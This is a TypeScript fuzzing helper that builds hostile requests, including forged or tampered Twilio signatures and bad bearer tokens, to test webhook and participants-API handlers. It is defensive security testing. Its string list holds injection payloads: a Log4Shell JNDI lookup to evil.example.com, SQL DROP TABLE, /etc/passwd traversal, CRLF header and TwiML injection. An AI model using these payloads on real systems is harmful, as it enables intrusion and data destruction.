/**
 * fast-check arbitraries for hostile requests to the four handlers. Secrets are never part of a generated
 * value: the placeholders {{AUTH}} and {{API}} stand for the Auth Token and the bearer token and are
 * substituted when the event is built, so a failing counterexample prints placeholders, not secrets.
 */
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import fc from 'fast-check';
import { getExpectedBodyHash, getExpectedTwilioSignature } from 'twilio/lib/webhooks/webhooks';
import { apiGatewayEvent, APP_SID, DOMAIN } from '../../lambdas/support/events';
import { ACCOUNT_SID, API_ROUTES, API_TOKEN, AUTH_TOKEN, CONFERENCE, CONFERENCE_SID, sid } from './harness';

export const AUTH_PLACEHOLDER = '{{AUTH}}';
export const API_PLACEHOLDER = '{{API}}';

/** Replaces the placeholders with the secrets (hostile positions) or with a neutral word (trusted positions). */
export function substitute(text: string, withSecrets: boolean): string {
  return text
    .split(AUTH_PLACEHOLDER)
    .join(withSecrets ? AUTH_TOKEN : 'auth')
    .split(API_PLACEHOLDER)
    .join(withSecrets ? API_TOKEN : 'api');
}

/** Strings known to break naive parsers, encoders and validators. */
const NASTY = [
  '',
  ' ',
  '%',
  '%E0%A4%A',
  '%00',
  '%2F..%2F',
  '\u0000',
  '\r\nX-Injected: 1',
  '\ud800',
  '\ufeff',
  '../../../etc/passwd',
  '<Response><Dial>+19005550100</Dial></Response>',
  ']]><x>',
  '"/><Parameter name="x" value="y',
  '${jndi:ldap://evil.example.com/a}',
  "'; DROP TABLE calls; --",
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
  '+19005550100',
  'sip:a@evil.example.com',
  `app:${APP_SID}?caller=x`,
  `bodySHA256=${'f'.repeat(64)}`,
  '東京🚀'.repeat(40),
  'A'.repeat(5000),
  AUTH_PLACEHOLDER,
  API_PLACEHOLDER,
  `Bearer ${API_PLACEHOLDER}`,
];

/** A hostile string: nasty constants, random unicode or bytes, or a long run. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', minLength: 100, maxLength: 700 }) },
);

const headerName = fc.oneof(
  fc.constantFrom(
    'x-twilio-signature',
    'X-Twilio-Signature',
    'content-type',
    'authorization',
    'Authorization',
    'i-twilio-idempotency-token',
    'host',
    'x-forwarded-for',
    'cookie',
    'x-api-key',
  ),
  fc.stringMatching(/^[a-zA-Z-]{1,20}$/),
);
const extraHeaders = fc.dictionary(headerName, hostile, { maxKeys: 4 });

const contentType = fc.constantFrom(
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=utf-8',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/json',
  'text/plain',
  'multipart/form-data; boundary=x',
  '',
  undefined,
);

const method = fc.oneof(
  { weight: 6, arbitrary: fc.constant('POST') },
  { weight: 2, arbitrary: fc.constantFrom('GET', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') },
  { weight: 1, arbitrary: hostile },
);

const TWILIO_KEYS = [
  'AccountSid',
  'CallSid',
  'From',
  'To',
  'CallStatus',
  'ConferenceSid',
  'FriendlyName',
  'StatusCallbackEvent',
  'ParticipantLabel',
  'SequenceNumber',
  'ErrorCode',
  'Direction',
  'ApiVersion',
];
const twilioValue = fc.oneof(
  fc.constantFrom(
    ACCOUNT_SID,
    sid('CA', 1),
    CONFERENCE_SID,
    'participant-join',
    'participant-leave',
    'conference-end',
    'caller',
    'ai-agent',
    'in-progress',
    'ringing',
    '+15557654321',
    CONFERENCE,
    `CF${'z'.repeat(32)}`,
  ),
  hostile,
);
/** Genuine parameter sets of the three kinds of deliveries, so that signed cases reach the handler bodies. */
const BASE_PARAMS: Record<string, string>[] = [
  {
    AccountSid: ACCOUNT_SID,
    CallSid: sid('CA', 1),
    From: '+15557654321',
    To: '+15550001111',
    CallStatus: 'ringing',
    Direction: 'inbound',
    ApiVersion: '2010-04-01',
  },
  {
    AccountSid: ACCOUNT_SID,
    ConferenceSid: CONFERENCE_SID,
    FriendlyName: CONFERENCE,
    StatusCallbackEvent: 'participant-join',
    ParticipantLabel: 'caller',
    CallSid: sid('CA', 1),
    SequenceNumber: '2',
  },
  {
    AccountSid: ACCOUNT_SID,
    CallSid: sid('CA', 3),
    CallStatus: 'in-progress',
    Direction: 'outbound-api',
    ApiVersion: '2010-04-01',
  },
];
const formParams = fc
  .record({
    base: fc.constantFrom(...BASE_PARAMS),
    drop: fc.subarray(TWILIO_KEYS, { maxLength: 3 }),
    overrides: fc.dictionary(
      fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...TWILIO_KEYS) }, { weight: 1, arbitrary: hostile }),
      fc.oneof(twilioValue, fc.array(twilioValue, { maxLength: 3 })),
      { maxKeys: 4 },
    ),
  })
  .map(({ base, drop, overrides }) => {
    const params: Record<string, string | string[]> = { ...base, ...overrides };
    for (const key of drop) delete params[key];
    return params;
  });

/** Query strings: the stack's own, re-encodings, hostile pairs and raw junk. */
const query = fc.oneof(
  fc.constant(''),
  fc.constantFrom(
    `caller=%2B15557654321&callerCallSid=${sid('CA', 1)}`,
    `action=complete-cold-transfer&conferenceSid=${CONFERENCE_SID}&agentLabel=ai-agent`,
    `action=complete-cold-transfer&conferenceSid=${CONFERENCE_SID}&agentLabel=..`,
    'caller=%2B15557654321&ticket=T%2042&customerId=Zo%C3%AB',
    `token=${API_PLACEHOLDER}`,
  ),
  fc
    .dictionary(
      fc.oneof(
        fc.constantFrom(
          'caller',
          'callerCallSid',
          'conference',
          'ticket',
          'language',
          'action',
          'conferenceSid',
          'agentLabel',
          'bodySHA256',
          'token',
        ),
        hostile,
      ),
      hostile,
      { maxKeys: 6 },
    )
    .map((d) => new URLSearchParams(d).toString()),
  hostile.map((s) => s.replace(/#/g, '')),
);

/** How the request is signed. */
export type SignatureKind = 'valid' | 'valid-json' | 'none' | 'random' | 'wrong-token' | 'other-url' | 'tampered';
const signatureKind = fc.oneof(
  { weight: 4, arbitrary: fc.constant<SignatureKind>('valid') },
  { weight: 1, arbitrary: fc.constant<SignatureKind>('valid-json') },
  { weight: 1, arbitrary: fc.constantFrom<SignatureKind>('none', 'random', 'wrong-token', 'other-url', 'tampered') },
);

export interface WebhookCase {
  readonly method: string;
  readonly pathVariant: 'exact' | 'stage' | 'suffix' | 'other';
  readonly suffix: string;
  readonly query: string;
  readonly params: Record<string, string | string[]>;
  readonly rawBody: string;
  readonly bodyKind: 'form' | 'raw';
  readonly contentType: string | undefined;
  readonly base64: 'encoded' | 'text' | 'flag-on-plain-text';
  readonly signature: SignatureKind;
  readonly randomSignature: string;
  readonly headers: Record<string, string>;
}

export const webhookCase: fc.Arbitrary<WebhookCase> = fc.record({
  method,
  pathVariant: fc.constantFrom('exact', 'exact', 'exact', 'stage', 'suffix', 'other'),
  suffix: hostile.map((s) => s.replace(/[?#]/g, '')),
  query,
  params: formParams,
  rawBody: fc.oneof(
    hostile,
    fc.jsonValue().map((v) => JSON.stringify(v)),
  ),
  bodyKind: fc.constantFrom('form', 'form', 'raw'),
  contentType,
  base64: fc.constantFrom('encoded', 'text', 'flag-on-plain-text'),
  signature: signatureKind,
  randomSignature: fc.oneof(hostile, fc.base64String({ maxLength: 40 })),
  headers: extraHeaders,
});

function formEncode(params: Record<string, string | string[]>): string {
  const search = new URLSearchParams();
  for (const [k, v] of Object.entries(params)) for (const item of Array.isArray(v) ? v : [v]) search.append(k, item);
  return search.toString();
}

/** Builds the API Gateway event of a webhook case for `path`, and says whether it carries a genuine signature. */
export function webhookEvent(path: string, c: WebhookCase): { event: APIGatewayProxyEventV2; genuine: boolean } {
  const genuine = c.signature === 'valid' || c.signature === 'valid-json';
  // Signed values come from Twilio: no secrets in them. Forged requests carry secrets anywhere.
  const sub = (s: string) => substitute(s, !genuine);
  const stage = c.pathVariant === 'stage' ? 'prod' : '$default';
  const requestPath =
    c.pathVariant === 'suffix' ? `${path}/${sub(c.suffix)}` : c.pathVariant === 'other' ? `/${sub(c.suffix)}` : path;
  const rawPath = stage === '$default' ? requestPath : `/${stage}${requestPath}`;
  let rawQuery = sub(c.query);
  let body: string;
  let type = c.contentType;
  let signedParams: Record<string, string | string[]> = {};
  if (c.signature === 'valid-json') {
    body = sub(c.rawBody);
    type = 'application/json';
    rawQuery = [rawQuery, `bodySHA256=${getExpectedBodyHash(body)}`].filter(Boolean).join('&');
  } else if (c.bodyKind === 'form' || c.signature === 'valid') {
    const params = Object.fromEntries(
      Object.entries(c.params).map(([k, v]) => [sub(k), Array.isArray(v) ? v.map(sub) : sub(v)]),
    );
    body = formEncode(params);
    if (c.signature === 'valid') {
      type = 'application/x-www-form-urlencoded';
      signedParams = Object.fromEntries(new URLSearchParams(body).entries());
      // Repeated names are signed as arrays, as Twilio does.
      signedParams = {};
      for (const [k, v] of new URLSearchParams(body)) {
        const existing = signedParams[k];
        signedParams[k] = existing === undefined ? v : Array.isArray(existing) ? [...existing, v] : [existing, v];
      }
    }
  } else {
    body = sub(c.rawBody);
  }
  const url = `https://${DOMAIN}${rawPath}${rawQuery ? `?${rawQuery}` : ''}`;
  let signature: string | undefined;
  switch (c.signature) {
    case 'valid':
    case 'valid-json':
      signature = getExpectedTwilioSignature(AUTH_TOKEN, url, signedParams);
      break;
    case 'none':
      signature = undefined;
      break;
    case 'random':
      signature = sub(c.randomSignature);
      break;
    case 'wrong-token':
      signature = getExpectedTwilioSignature(`${AUTH_TOKEN}x`, url, signedParams);
      break;
    case 'other-url':
      signature = getExpectedTwilioSignature(AUTH_TOKEN, `https://evil.example.com${rawPath}`, signedParams);
      break;
    case 'tampered':
      signature = getExpectedTwilioSignature(AUTH_TOKEN, url, { ...signedParams, Tampered: '1' });
      break;
  }
  const headers: Record<string, string> = {};
  for (const [k, v] of Object.entries(c.headers)) headers[k.toLowerCase()] = sub(v);
  if (type !== undefined) headers['content-type'] = type;
  if (signature !== undefined) headers['x-twilio-signature'] = signature;
  else delete headers['x-twilio-signature'];
  const event = apiGatewayEvent({
    method: genuine ? 'POST' : sub(c.method),
    path: requestPath,
    routeKey: `POST ${path}`,
    rawQueryString: rawQuery,
    stage,
    headers,
    body,
    base64: c.base64 === 'encoded',
  });
  if (c.base64 === 'flag-on-plain-text' && !genuine) {
    event.body = body;
    event.isBase64Encoded = true;
  }
  return { event, genuine };
}

// ---------------------------------------------------------------------------------------------------------
// Participants API

const anyJson = fc.jsonValue({ maxDepth: 3 });
const target = fc.oneof(
  fc.constantFrom(
    'agent',
    '+15551230000',
    '+442071234567',
    '+19005550100',
    'client:alice',
    'sip:alice@pbx.example.com',
    'sip:alice@evil.example.com',
    'http://evil.example.com',
  ),
  hostile,
  anyJson,
);
const labelValue = fc.oneof(
  fc.constantFrom('human', 'supervisor', 'ai-agent', 'caller', sid('CA', 9), 'x'.repeat(129)),
  hostile,
  anyJson,
);
const contextValue = fc.dictionary(
  fc.oneof(fc.constantFrom('ticket', 'caller', 'customerId', 'language', '__proto__'), hostile),
  fc.oneof({ weight: 4, arbitrary: hostile }, { weight: 1, arbitrary: anyJson }),
  { maxKeys: 8 },
);
const command = fc.record(
  {
    target,
    label: labelValue,
    context: fc.oneof({ weight: 4, arbitrary: contextValue }, { weight: 1, arbitrary: anyJson }),
    from: fc.oneof(fc.constantFrom('+15550001111', '+19005550100', '5550001111'), hostile, anyJson),
    muted: fc.oneof(fc.boolean(), anyJson),
    endConferenceOnExit: fc.oneof(fc.boolean(), anyJson),
    timeout: fc.oneof(fc.integer({ min: -10, max: 700 }), anyJson),
    type: fc.oneof(fc.constantFrom('cold', 'warm'), hostile),
    removeAgent: fc.oneof(fc.constantFrom('on-answer', 'immediately'), hostile),
    hold: fc.oneof(fc.boolean(), anyJson),
    unknown: anyJson,
  },
  { requiredKeys: [] },
);

/** Valid commands per route, a field or two then replaced by hostile values, so that many requests reach Twilio. */
const PLAUSIBLE: [string, Record<string, unknown>][] = [
  [API_ROUTES.add, {}],
  [API_ROUTES.add, { context: { ticket: 'T-1', language: 'fr-FR' } }],
  [API_ROUTES.add, { target: '+15551230000', label: 'supervisor', muted: true }],
  [API_ROUTES.add, { target: 'sip:alice@pbx.example.com', timeout: 30 }],
  [API_ROUTES.update, { hold: true }],
  [API_ROUTES.update, { muted: false }],
  [API_ROUTES.remove, {}],
  [API_ROUTES.transfer, { type: 'cold', target: '+15551230000' }],
  [API_ROUTES.transfer, { type: 'cold', target: '+442071234567', removeAgent: 'immediately' }],
  [API_ROUTES.transfer, { type: 'warm', target: 'client:alice', label: 'expert' }],
  [API_ROUTES.complete, {}],
  [API_ROUTES.cancel, {}],
  [API_ROUTES.supervise, { target: 'client:lead' }],
  [API_ROUTES.supervise, { target: '+15551230000', mode: 'whisper', coach: 'agent' }],
  [API_ROUTES.superviseMode, { mode: 'barge' }],
  [API_ROUTES.superviseMode, { mode: 'whisper', coach: 'human' }],
];
const plausible = fc
  .record({
    pick: fc.constantFrom(...PLAUSIBLE),
    overrides: fc.dictionary(
      fc.constantFrom(
        'target',
        'label',
        'context',
        'from',
        'muted',
        'timeout',
        'type',
        'removeAgent',
        'hold',
        'endConferenceOnExit',
        'mode',
        'coach',
      ),
      fc.oneof(
        hostile,
        anyJson,
        contextValue,
        fc.constantFrom('+15551230000', 'client:bob', true, false, 15, 'cold', 'warm', 'whisper', 'agent', 'caller'),
      ),
      { maxKeys: 2 },
    ),
    keep: fc.boolean(),
  })
  .map(({ pick: [routeKey, value], overrides, keep }) => ({
    kind: 'plausible' as const,
    routeKey,
    value: keep ? value : { ...value, ...overrides },
  }));

export type AuthKind = 'valid' | 'none' | 'wrong' | 'malformed' | 'query' | 'other-header';

export interface ApiCase {
  readonly routeKey: string;
  readonly method: string;
  readonly conference: string | undefined;
  readonly participant: string | undefined;
  readonly auth: AuthKind;
  readonly authJunk: string;
  readonly query: string;
  readonly contentType: string | undefined;
  readonly body:
    | { readonly kind: 'plausible'; readonly routeKey: string; readonly value: Record<string, unknown> }
    | { readonly kind: 'command'; readonly value: Record<string, unknown> }
    | { readonly kind: 'json'; readonly value: unknown }
    | { readonly kind: 'raw'; readonly value: string }
    | { readonly kind: 'deep'; readonly depth: number; readonly open: string }
    | { readonly kind: 'huge'; readonly size: number };
  readonly base64: 'encoded' | 'text' | 'flag-on-plain-text';
  readonly headers: Record<string, string>;
}

const pathParam = (known: string[]) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...known) },
    { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9_.:-]{1,12}$/) },
    { weight: 2, arbitrary: hostile },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );

export const apiCase: fc.Arbitrary<ApiCase> = fc.record({
  routeKey: fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...Object.values(API_ROUTES)) },
    { weight: 1, arbitrary: fc.constantFrom('GET /conferences/{conference}/participants', '$default', '') },
    { weight: 1, arbitrary: hostile },
  ),
  method: method,
  conference: pathParam([CONFERENCE, CONFERENCE_SID, '.', '..']),
  participant: pathParam(['caller', 'ai-agent', 'human', sid('CA', 2), '..']),
  auth: fc.oneof(
    { weight: 5, arbitrary: fc.constant<AuthKind>('valid') },
    { weight: 2, arbitrary: fc.constantFrom<AuthKind>('none', 'wrong', 'malformed', 'query', 'other-header') },
  ),
  authJunk: hostile,
  query: fc.oneof({ weight: 3, arbitrary: fc.constant('') }, { weight: 1, arbitrary: query }),
  contentType: fc.oneof(
    { weight: 4, arbitrary: fc.constant('application/json') },
    { weight: 1, arbitrary: contentType },
  ),
  body: fc.oneof(
    { weight: 6, arbitrary: plausible },
    { weight: 4, arbitrary: command.map((value) => ({ kind: 'command' as const, value })) },
    { weight: 1, arbitrary: anyJson.map((value) => ({ kind: 'json' as const, value })) },
    { weight: 1, arbitrary: hostile.map((value) => ({ kind: 'raw' as const, value })) },
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('deep' as const),
        depth: fc.integer({ min: 100, max: 9000 }),
        open: fc.constantFrom('[', '{"a":'),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        kind: fc.constant('huge' as const),
        size: fc.integer({ min: 16 * 1024 - 4, max: 64 * 1024 }),
      }),
    },
  ),
  base64: fc.constantFrom('encoded', 'text', 'text', 'flag-on-plain-text'),
  headers: extraHeaders,
});

function apiBody(body: ApiCase['body'], sub: (s: string) => string): string {
  switch (body.kind) {
    case 'plausible':
    case 'command':
    case 'json':
      return sub(JSON.stringify(body.value) ?? '');
    case 'raw':
      return sub(body.value);
    case 'deep': {
      const close = body.open === '[' ? ']' : '}';
      return body.open.repeat(body.depth) + (body.open === '[' ? '' : '1') + close.repeat(body.depth);
    }
    case 'huge':
      return JSON.stringify({ context: { ticket: 'x'.repeat(body.size) } });
  }
}

/** Builds a participants API event; `authenticated` says whether it carries the right bearer token. */
export function apiCaseEvent(c: ApiCase): { event: APIGatewayProxyEventV2; authenticated: boolean } {
  const authenticated = c.auth === 'valid';
  // An authenticated client's own values may be echoed to it in error messages: no secrets in its body.
  const sub = (s: string) => substitute(s, !authenticated);
  const headers: Record<string, string> = {};
  for (const [k, v] of Object.entries(c.headers))
    if (k.toLowerCase() !== 'authorization') headers[k.toLowerCase()] = substitute(v, true);
  if (c.contentType !== undefined) headers['content-type'] = c.contentType;
  let rawQuery = authenticated ? c.query.replace(/token/g, 'tkn') : c.query;
  switch (c.auth) {
    case 'valid':
      headers.authorization = `Bearer ${API_TOKEN}`;
      break;
    case 'wrong':
      headers.authorization = `Bearer ${substitute(c.authJunk, true).replace(/[^\x21-\x7e]/g, '') || 'x'}`;
      break;
    case 'malformed':
      headers.authorization = substitute(c.authJunk, true);
      break;
    case 'query':
      rawQuery = `token=${encodeURIComponent(API_TOKEN)}`;
      break;
    case 'other-header':
      headers['x-api-key'] = API_TOKEN;
      break;
    case 'none':
      break;
  }
  // Junk that happens to spell the right credential is still a wrong one here.
  if (
    c.auth !== 'valid' &&
    headers.authorization !== undefined &&
    /^\s*Bearer \S+\s*$/.test(headers.authorization) &&
    headers.authorization.trim() === `Bearer ${API_TOKEN}`
  )
    headers.authorization = `Bearer ${API_TOKEN}x`;
  // API Gateway sets routeKey to the matched route (never client text): a trusted value, without secrets.
  const routeKey = substitute(c.body.kind === 'plausible' ? c.body.routeKey : c.routeKey, false);
  const [method, template] = routeKey.includes(' ') ? routeKey.split(' ') : [sub(c.method), '/x'];
  const pathParameters: Record<string, string> = {};
  if (c.conference !== undefined) pathParameters.conference = sub(c.conference);
  if (c.participant !== undefined) pathParameters.participant = sub(c.participant);
  const encode = (v: string) => {
    try {
      return encodeURIComponent(v);
    } catch {
      return v; // a lone surrogate: API Gateway would pass the bytes on as they came
    }
  };
  const path = (template ?? '/x')
    .replace('{conference}', encode(pathParameters.conference ?? ''))
    .replace('{participant}', encode(pathParameters.participant ?? ''));
  const body = apiBody(c.body, sub);
  const event = apiGatewayEvent({
    method,
    path,
    routeKey,
    pathParameters,
    rawQueryString: sub(rawQuery),
    headers,
    body,
    base64: c.base64 === 'encoded',
  });
  if (c.base64 === 'flag-on-plain-text') {
    event.body = body;
    event.isBase64Encoded = true;
  }
  return { event, authenticated };
}
